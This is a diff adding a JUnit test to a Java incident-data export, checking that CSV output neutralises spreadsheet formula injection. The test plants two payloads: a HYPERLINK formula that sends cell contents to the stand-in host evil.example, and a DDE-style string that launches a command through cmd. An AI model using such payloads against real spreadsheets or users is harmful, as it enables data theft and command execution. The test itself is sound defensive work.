@@ -7,6 +7,8 @@ import java.util.Arrays;
 import java.util.List;
 import org.deconfliction.atlas.analysis.BankSide;
 import org.deconfliction.atlas.analysis.DrawnRegion;
+import org.deconfliction.atlas.geodata.SourceReference;
+import org.deconfliction.atlas.incident.Incident;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.context.SpringBootTest;
@@ -54,5 +56,25 @@ class ResultExportTest {
         assertThat(lines.size() - header - 1).isEqualTo(result.total());
         String khasham = lines.stream().filter(l -> l.startsWith("battle-of-khasham-2018,")).findFirst().orElseThrow();
         assertThat(khasham).contains(",east,").contains("[000_5de0546176a6674a.txt]");
+    }
+
+    @Test
+    void csvCellsFromDataNeverReachASpreadsheetAsFormulas() {
+        QueryResult shipped = queries.run(IncidentQuery.all());
+        IncidentAnswer first = shipped.answers().getFirst();
+        Incident i = first.incident();
+        Incident planted = new Incident(i.id(), "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", i.summary(),
+                i.category(), i.actors(), i.opponent(), i.casualties(), i.place(), i.siteId(), i.location(),
+                i.uncertainty(), i.date(), i.timeOfDay(), i.country(),
+                List.of(new SourceReference("@SUM(1+1)*cmd|' /C calc'!A0", null, null)), i.disagreements());
+        QueryResult result = new QueryResult(IncidentQuery.all(),
+                List.of(new IncidentAnswer(planted, first.answer(), first.attributes())));
+
+        String row = Arrays.stream(ResultExport.csv(result, AT).split("\r\n")).filter(l -> l.startsWith(i.id() + ","))
+                .findFirst().orElseThrow();
+
+        assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",")
+                .endsWith(",'@SUM(1+1)*cmd|' /C calc'!A0");
+        assertThat(row.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")).noneMatch(cell -> cell.matches("[=+@\\t\\r].*"));
     }
 }
